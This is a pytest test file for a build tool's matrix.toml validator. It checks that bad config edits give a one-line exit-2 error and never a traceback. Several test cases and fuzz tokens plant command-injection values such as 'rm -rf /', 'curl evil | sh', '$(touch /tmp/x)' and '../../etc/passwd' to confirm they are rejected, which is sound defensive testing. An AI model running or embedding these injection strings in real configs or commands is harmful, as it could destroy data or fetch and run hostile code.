"""matrix.toml validation: every bad input is exit code 2 with file:line, key and value; never a traceback."""

from __future__ import annotations

import os
import re
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from builder.facts import compat as compat_mod
from builder.facts.compat import PLATFORMS, vtuple

from conftest import REPO

DEFAULT = (REPO / "matrix.toml").read_text()
# The [axes] torch line as it is today (`builder drift --write` appends new minors to it).
TORCH_AXIS = re.search(r"^torch = \[.*\]$", DEFAULT, re.M).group(0)
PYTHON_AXIS = re.search(r"^python = \[.*\]$", DEFAULT, re.M).group(0)


def make_dir(root: Path) -> Path:
    """A folder where a copy of matrix.toml resolves [package] paths like the repo's."""
    root.mkdir(parents=True, exist_ok=True)
    for name in ("mamba_ssm", "csrc"):
        link = root / name
        if not link.exists():
            os.symlink(REPO / name, link)
    return root


@pytest.fixture
def mdir(tmp_path: Path) -> Path:
    return make_dir(tmp_path / "m")


def mutate(text: str, old: str, new: str) -> str:
    assert old in text, f"test case is stale: {old!r} not in matrix.toml"
    return text.replace(old, new, 1)


def line_of(text: str, marker: str) -> int:
    for n, line in enumerate(text.splitlines(), 1):
        if marker in line and not line.lstrip().startswith("#"):
            return n
    raise AssertionError(f"{marker!r} not in text")


NGC_INCLUDE = 'reason = "NGC-style torch (CXX11 ABI) for torch <= 2.6"'
CI_CPU = '{ accelerator = "cpu", torch = "2.13", python = "3.11" }'
PLAN_STABLE = "[plan]\nstable_abi = true"
CI_STABLE = "stable_abi = false  # the farm"

# (case id, old, new, marker of the line the message must name, fragments the message must contain)
CASES = [
    ("toml-syntax", "[axes]", "[axes", "[axes", ["TOML syntax error"]),
    (
        "toml-duplicate-key",
        'import_name = "mamba_ssm"',
        'import_name = "mamba_ssm"\nimport_name = "x"',
        'import_name = "x"',
        ["TOML syntax error"],
    ),
    (
        "unknown-top-key",
        "[torch_index]",
        "[torch_indx]",
        "[torch_indx]",
        ['"torch_indx"', 'did you mean "torch_index"'],
    ),
    ("unknown-axis-key", 'python = ["3.10"', 'pyhton = ["3.10"', "pyhton", ["axes.pyhton", 'did you mean "python"']),
    ("unknown-package-key", 'version_file = "', 'versoin_file = "', "versoin_file", ['did you mean "version_file"']),
    (
        "unknown-image-key",
        'base = "debian:{debian_suite}"',
        'base = "debian:{debian_suite}"\nglib = "2.36"',
        'glib = "2.36"',
        ["images.cuda-debian.glib", 'did you mean "glibc"'],
    ),
    ("unknown-image-kind", "[images.rocm]", "[images.rocn]", "[images.rocn]", ['"rocn"', 'did you mean "rocm"']),
    (
        "unknown-include-key",
        NGC_INCLUDE,
        NGC_INCLUDE.replace("reason", "reasn"),
        "reasn",
        ["include#1.reasn", 'did you mean "reason"'],
    ),
    ("unknown-profile-key", 'description = "CI:', 'descripton = "CI:', "descripton", ['did you mean "description"']),
    (
        "unknown-select-key",
        CI_CPU,
        CI_CPU.replace("accelerator", "accelerater"),
        "accelerater",
        ["profiles.ci.select#1.accelerater", 'did you mean "accelerator"'],
    ),
    (
        "profile-unknown-axis",
        'platform = "linux_x86_64"\ncxx11abi = "auto"',
        'os = "linux"\ncxx11abi = "auto"',
        'os = "linux"',
        ['unknown key "os"'],
    ),
    ("float-torch", 'torch = ["2.4",', "torch = [2.4,", "torch = [2.4,", ["axes.torch#1", "float", '"2.4"']),
    (
        "string-not-array",
        PYTHON_AXIS,
        'python = "3.11"',
        'python = "3.11"',
        ["axes.python", "must be an array"],
    ),
    ("bool-not-string", "prefer_pypi = true", 'prefer_pypi = "yes"', "prefer_pypi", ["true or false", '"yes"']),
    ("int-python", '"3.14", "3.15"]', '"3.14", 315]', '"3.14", 315]', ["axes.python#6", "integer 315"]),
    ("unparsable-torch", 'torch = ["2.4",', 'torch = ["2.x",', 'torch = ["2.x",', ['"2.x"', "major.minor"]),
    ("patch-torch", 'torch = ["2.4",', 'torch = ["2.4.1",', 'torch = ["2.4.1",', ['"2.4.1"', "major.minor"]),
    ("nonexistent-torch", 'torch = ["2.4",', 'torch = ["2.99",', 'torch = ["2.99",', ["torch 2.99", "known: 1.13, 2.0"]),
    ("nonexistent-python", '"3.14", "3.15"]', '"3.14", "3.19"]', '"3.19"', ["Python 3.19", "known: 3.7, 3.8"]),
    ("unknown-accelerator", '"cuda-11.8",', '"cuda-11.7",', '"cuda-11.7"', ['"cuda-11.7"', 'did you mean "cuda-11.8"']),
    ("bad-accelerator", '"cuda-11.8",', '"tpu",', '"tpu"', ['"tpu"', "cuda-X.Y"]),
    (
        "unknown-platform",
        'platform = "linux_x86_64"\nreason',
        'platform = "linux_arm64"\nreason',
        "linux_arm64",
        ["include#1.platform", 'did you mean "linux_aarch64"'],
    ),
    ("abi-string", "cxx11abi = true", 'cxx11abi = "TRUE"', 'cxx11abi = "TRUE"', ['"TRUE"', "true or false"]),
    ("shell-python", '"3.14", "3.15"]', '"3.14", "3.15; rm -rf /"]', "rm -rf", ['"3.15; rm -rf /"', "axes.python#6"]),
    (
        "shell-base-space",
        'base = "nvidia/cuda:{toolkit_full}-devel-rockylinux8"',
        'base = "nvidia/cuda:{toolkit_full} && curl evil | sh"',
        "curl evil",
        ["images.cuda.base", "image reference"],
    ),
    (
        "shell-base-quote",
        'base = "quay.io/pypa/manylinux_2_28_{arch}"\nglibc = "2.28"\n\n[images.cuda]',
        'base = "quay.io/pypa/manylinux_2_28_{arch}\\"; rm -rf /"\nglibc = "2.28"\n\n[images.cuda]',
        "rm -rf",
        ["images.cpu.base", "image reference"],
    ),
    (
        "base-bad-placeholder",
        'base = "debian:{debian_suite}"',
        'base = "debian:{suite}"',
        "{suite}",
        ["images.cuda-debian.base", "{suite}"],
    ),
    (
        "shell-index-url",
        'url = "https://download.pytorch.org/whl/{variant}"',
        'url = "https://download.pytorch.org/whl/{variant}$(touch /tmp/x)"',
        "touch",
        ["torch_index.url", "URL"],
    ),
    (
        "index-url-no-placeholder",
        'url = "https://download.pytorch.org/whl/{variant}"',
        'url = "https://download.pytorch.org/whl/cu126"',
        "whl/cu126",
        ["torch_index.url", "{variant}"],
    ),
    ("shell-package-name", 'name = "mamba-ssm"', 'name = "mamba-ssm; echo"', "; echo", ["package.name"]),
    (
        "path-escape",
        'version_file = "mamba_ssm/__init__.py"',
        'version_file = "../../etc/passwd"',
        "etc/passwd",
        ["package.version_file", "relative path"],
    ),
    (
        "missing-version-file",
        'version_file = "mamba_ssm/__init__.py"',
        'version_file = "mamba_ssm/nope.py"',
        "nope.py",
        ["package.version_file", "__version__"],
    ),
    ("shell-arch", 'archs = ["sm_80"]', 'archs = ["sm_80;ls"]', "sm_80;ls", ["profiles.ci.archs#1", '"sm_80;ls"']),
    ("unknown-arch", 'archs = ["sm_80"]', 'archs = ["sm_60"]', "sm_60", ["profiles.ci.archs#1", "sm_60"]),
    ("bad-glibc", 'glibc = "2.35"', 'glibc = "2.35; id"', "2.35; id", ["images.rocm.glibc"]),
    (
        "exclude-unknown-axis",
        "[toolkit_source]",
        '[toolkit_source]\n\n[[exclude]]\ncompiler = "gcc"\nreason = "x"',
        'compiler = "gcc"',
        ["exclude#1.compiler", "valid keys"],
    ),
    (
        "exclude-outside-axes",
        "[toolkit_source]",
        '[toolkit_source]\n\n[[exclude]]\ntorch = "2.3"\nreason = "x"',
        'torch = "2.3"',
        ["exclude#1.torch", '"2.3" is not in axes.torch'],
    ),
    (
        "exclude-no-reason",
        "[toolkit_source]",
        '[toolkit_source]\n\n[[exclude]]\ntorch = "2.4"',
        "[[exclude]]",
        ['missing key "reason"'],
    ),
    (
        "exclude-no-axis",
        "[toolkit_source]",
        '[toolkit_source]\n\n[[exclude]]\nreason = "everything"',
        "[[exclude]]",
        ["exclude#1", "names no axis"],
    ),
    (
        "profile-outside-axes",
        CI_CPU,
        CI_CPU.replace('"2.13"', '"2.3"'),
        'torch = "2.3"',
        ["profiles.ci.select#1.torch", '"2.3" is not in axes.torch'],
    ),
    (
        "profile-python-outside-axes",
        '"cuda-13.0", torch = "2.14", python = ["3.11", "3.12"]',
        '"cuda-13.0", torch = "2.14", python = ["3.11", "3.9"]',
        '"3.9"',
        ["profiles.ci.select#2.python#2", '"3.9"'],
    ),
    ("duplicate-axis-value", '"3.14", "3.15"]', '"3.14", "3.14"]', '"3.14", "3.14"]', ['"3.14" is listed twice']),
    (
        "duplicate-cuda-major",
        '"cuda-12.9", "cuda-13.0"',
        '"cuda-12.9", "cuda-12.4", "cuda-13.0"',
        '"cuda-12.4"',
        ["cuda-12.4 and cuda-12.9", "cu12"],
    ),
    (
        "include-duplicates-axes",
        "cxx11abi = true\nplatform",
        'cxx11abi = "auto"\nplatform',
        "[[include]]",
        ["include#1", "adds nothing"],
    ),
    (
        "toolkit-source-impossible",
        "[toolkit_source]",
        '[toolkit_source]\n"cuda-12.9" = "pypi"',
        '"cuda-12.9" = "pypi"',
        ['toolkit_source."cuda-12.9"', '"pypi"'],
    ),
    (
        "toolkit-source-unused",
        "[toolkit_source]",
        '[toolkit_source]\n"cuda-12.4" = "debian"',
        '"cuda-12.4" = "debian"',
        ['toolkit_source."cuda-12.4"', "not in axes.accelerator"],
    ),
    (
        "nothing-to-build",
        TORCH_AXIS,
        'torch = ["2.4"]\n',
        "[axes]",
        ["nothing to build"],
    ),
    (
        "reason-newline",
        NGC_INCLUDE,
        'reason = """multi\nline"""',
        'reason = """multi',
        ["include#1.reason", "one line"],
    ),
    # [plan] stable_abi and a profile's stable_abi: booleans only, keys spelled right
    (
        "stable-abi-string",
        PLAN_STABLE,
        '[plan]\nstable_abi = "yes"',
        'stable_abi = "yes"',
        ["plan.stable_abi", "true or false", '"yes"'],
    ),
    (
        "stable-abi-int",
        PLAN_STABLE,
        "[plan]\nstable_abi = 1",
        "stable_abi = 1",
        ["plan.stable_abi", "true or false", "integer 1"],
    ),
    (
        "stable-abi-typo",
        PLAN_STABLE,
        "[plan]\nstable_abl = true",
        "stable_abl",
        ["plan.stable_abl", 'did you mean "stable_abi"'],
    ),
    ("plan-table-typo", "[plan]", "[plann]", "[plann]", ['"plann"', 'did you mean "plan"']),
    (
        "profile-trim-string",
        "stable_abi = false\ntrim = true",
        'stable_abi = false\ntrim = "yes"',
        'trim = "yes"',
        ["profiles.ci-upstream.trim", "true or false", '"yes"'],
    ),
    (
        "profile-stable-abi-string",
        CI_STABLE,
        'stable_abi = "no"  # the farm',
        'stable_abi = "no"',
        ["profiles.ci.stable_abi", "true or false", '"no"'],
    ),
    (
        "profile-stable-abi-int",
        CI_STABLE,
        "stable_abi = 0  # the farm",
        "stable_abi = 0",
        ["profiles.ci.stable_abi", "integer 0"],
    ),
    (
        "profile-stable-abi-typo",
        CI_STABLE,
        "stable_ab = false  # the farm",
        "stable_ab =",
        ['did you mean "stable_abi"'],
    ),
]


@pytest.mark.parametrize("case", CASES, ids=[c[0] for c in CASES])
def test_bad_matrix_is_exit_2_naming_file_line_key_value(mdir: Path, case, cli) -> None:
    _, old, new, marker, fragments = case
    text = mutate(DEFAULT, old, new)
    if case[0] == "nothing-to-build":
        text = mutate(text, PYTHON_AXIS, 'python = ["3.13"]')
        text = text.replace('torch = ["2.4", "2.5", "2.6"]\n', 'torch = ["2.4"]\n').replace('torch = "2.6"\n', 'torch = "2.4"\n')
        text = text[: text.index("[profiles.ci]")]
    path = mdir / "matrix.toml"
    path.write_text(text)
    proc = cli("plan", "--matrix", path, "--format", "json", in_process=True)
    err = proc.stderr
    assert proc.returncode == 2, (proc.stdout, err)
    assert "Traceback" not in err
    assert proc.stdout == ""
    first = err.splitlines()[0]
    assert first.startswith(f"error: {path}:{line_of(text, marker)}: "), (first, line_of(text, marker))
    for frag in fragments:
        assert frag in first, (frag, first)


def test_nothing_to_build_in_a_profile_names_it(mdir: Path, cli) -> None:
    text = mutate(DEFAULT, CI_CPU, '{ accelerator = "rocm-6.2", torch = "2.14", python = "3.11" }')
    text = mutate(text, '{ accelerator = "cuda-13.0", torch = "2.14", python = ["3.11", "3.12"] },\n', "")
    (mdir / "matrix.toml").write_text(text)
    proc = cli("plan", "--matrix", mdir / "matrix.toml", "--profile", "ci", in_process=True)
    err = proc.stderr
    assert proc.returncode == 2
    assert f"{mdir / 'matrix.toml'}:{line_of(text, '[profiles.ci]')}: profiles.ci: nothing to build" in err
    # the few dropped combinations are listed with their reasons right there
    assert "torch 2.14 x py3.11 x rocm-6.2 x cxx11abi=TRUE x linux_x86_64: torch 2.14 has no ROCm 6.2 build" in err


def test_missing_and_non_utf8_files(mdir: Path, cli) -> None:
    proc = cli("plan", "--matrix", mdir / "absent.toml", in_process=True)
    assert proc.returncode == 2 and "absent.toml: no such file" in proc.stderr and "Traceback" not in proc.stderr
    bad = mdir / "latin1.toml"
    bad.write_bytes(b'[package]\nname = "caf\xe9"\n')
    proc = cli("plan", "--matrix", bad, in_process=True)
    assert proc.returncode == 2 and f"{bad}:2: not UTF-8" in proc.stderr


def test_unknown_profile_and_only_suggest_near_matches(cli) -> None:
    proc = cli("plan", "--profile", "cii", in_process=True)
    assert proc.returncode == 2 and 'did you mean "ci"' in proc.stderr
    proc = cli("plan", "--profile", "ci", "--only", "cu13-torch2.14-cxx11abiTRUE-cp311-linux_x86_6", in_process=True)
    assert proc.returncode == 2
    assert "near matches: cu13-torch2.14-cxx11abiTRUE-cp311-linux_x86_64" in proc.stderr


# ---------------------------------------------------------------------------
# Property: whatever a careless edit does to matrix.toml, the CLI answers with a
# plan (0) or a one-line error (2), never a traceback.

TOKENS = [
    '"',
    "'",
    "[",
    "]",
    "[[",
    "{",
    "}",
    "=",
    ",",
    "\n",
    "#",
    ".",
    "-",
    " ",
    "true",
    "3.11",
    "2.99",
    "2.10",
    "cuda-12.4",
    "rocm-5.7",
    "x",
    "auto",
    "sm_80",
    "$(id)",
    '"; rm -rf /"',
    "linux_x86_64",
    "1e3",
    "\\",
]
LINES = DEFAULT.splitlines(keepends=True)


@st.composite
def mutated(draw) -> str:
    text = DEFAULT
    for _ in range(draw(st.integers(1, 3))):
        op = draw(st.sampled_from(["delete", "insert", "dup_line", "swap_lines", "replace_string"]))
        n = len(text)
        if op == "delete" and n:
            i = draw(st.integers(0, n - 1))
            text = text[:i] + text[i + draw(st.integers(1, 20)) :]
        elif op == "insert":
            i = draw(st.integers(0, n))
            text = text[:i] + draw(st.sampled_from(TOKENS)) + text[i:]
        elif op in ("dup_line", "swap_lines"):
            lines = text.splitlines(keepends=True) or [""]
            a = draw(st.integers(0, len(lines) - 1))
            b = draw(st.integers(0, len(lines) - 1))
            if op == "dup_line":
                lines.insert(b, lines[a])
            else:
                lines[a], lines[b] = lines[b], lines[a]
            text = "".join(lines)
        else:
            strings = list(re.finditer(r'"[^"\n]*"', text))
            if strings:
                m = strings[draw(st.integers(0, len(strings) - 1))]
                text = text[: m.start()] + '"' + draw(st.sampled_from(TOKENS)) + '"' + text[m.end() :]
    return text


@pytest.fixture(scope="module")
def prop_dir(tmp_path_factory) -> Path:
    return make_dir(tmp_path_factory.mktemp("prop"))


@settings(max_examples=100, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(text=mutated(), extra=st.sampled_from([[], ["--profile", "ci"], ["--explain"], ["--format", "github"]]))
def test_mutations_never_traceback(prop_dir: Path, text: str, extra: list[str], cli) -> None:
    path = prop_dir / "matrix.toml"
    path.write_text(text)
    args = ["plan", "--matrix", str(path)] + (extra if "--format" in extra else ["--format", "json", *extra])
    proc = cli(*args, in_process=True)  # an unexpected exception fails the test with its traceback
    rc, err = proc.returncode, proc.stderr
    assert rc in (0, 2), err
    if rc == 2:
        assert err.startswith("error: "), err
        assert "Traceback" not in err


# ---------------------------------------------------------------------------
# The data itself.


def test_compat_data_is_consistent() -> None:
    c = compat_mod.load()
    assert c.torch_minors() == sorted(c.torch, key=vtuple)
    for minor, row in c.torch.items():
        assert row.latest.startswith(minor + "."), minor
        assert vtuple(row.python[0]) < vtuple(row.python[1])
        assert set(row.cuda_aarch64) <= set(row.cuda), minor
        assert row.cxx11abi in ((False,), (True,)), minor
        assert set(row.glibc) == set(row.pypi) == set(PLATFORMS), minor
        assert row.cxx_std in (17, 20)
        for build in row.pypi.values():
            assert build == "cpu" or re.fullmatch(r"cu\d{3}", build), (minor, build)
        for rocm in row.rocm:
            assert re.fullmatch(r"\d+\.\d+(\.\d+)?", rocm)
    # the ABI switch and the C++20 switch, as the reference records them
    assert c.torch["2.6"].cxx11abi == (False,) and c.torch["2.7"].cxx11abi == (True,)
    assert c.torch["2.13"].cxx_std == 17 and c.torch["2.14"].cxx_std == 20
    # PyPI's 2.14.1 is a CUDA 13.0 build (its Requires-Dist: cuda-toolkit==13.0.3)
    assert c.torch["2.14"].latest == "2.14.1" and c.torch["2.14"].pypi["linux_x86_64"] == "cu130"
    for version, tk in c.cuda.items():
        assert tk["full"].startswith(version + ".")
        assert set(tk["sources"]) <= {"base", "pypi", "debian"}
        assert ("debian" in tk["sources"]) == ("debian_suite" in tk)
    for version, tk in c.rocm.items():
        assert tk["full"].startswith(version + ".") and tk["archs"]


# --- cost: exclude matching is indexed -------------------------------------------------------------


def _many_excludes(n: int) -> str:
    torches = ["2.4", "2.5", "2.6", "2.7", "2.8", "2.9", "2.10", "2.11", "2.12", "2.13", "2.14"]
    pys = ["3.10", "3.11", "3.12", "3.13"]
    return "".join(
        f'\n[[exclude]]\ntorch = "{torches[i % 11]}"\npython = "{pys[(i // 11) % 4]}"\n'
        f'accelerator = "rocm-7.2"\nplatform = "linux_aarch64"\nreason = "rule {i}"\n'
        for i in range(n)
    )


def test_ten_thousand_excludes_plan_in_seconds_with_the_same_answer(mdir):
    import time

    from builder.planning.matrix import RuleIndex, expand, load_matrix, native_abi, product_cells

    (mdir / "matrix.toml").write_text(DEFAULT + _many_excludes(10_000))
    compat = compat_mod.load()
    matrix = load_matrix(mdir / "matrix.toml", compat)
    t0 = time.perf_counter()
    kept, _dropped = expand(matrix, compat)
    assert time.perf_counter() - t0 < 3, "exclude matching is not indexed"
    assert kept
    # the index answers as the rules one by one do, first match first
    index = RuleIndex(matrix.excludes)
    for cell in product_cells(matrix.axes, compat)[:300]:
        native = native_abi(compat, cell)
        assert index.first(cell, native) == next((x for x in matrix.excludes if x.matches(cell, native)), None)


def test_a_rocm_only_profile_with_cuda_archs_says_so(mdir, cli):
    text = DEFAULT + '\n[profiles.rocm-only]\naccelerator = "rocm-6.2"\narchs = ["sm_80"]\n'
    (mdir / "matrix.toml").write_text(text)
    proc = cli("plan", "--matrix", mdir / "matrix.toml", "--profile", "rocm-only", in_process=True)
    err = proc.stderr
    assert proc.returncode == 2, err
    line = len(text.splitlines())
    assert f"matrix.toml:{line}: profiles.rocm-only.archs" in err and "sm_80 is a cuda architecture" in err, err
    assert "Traceback" not in err
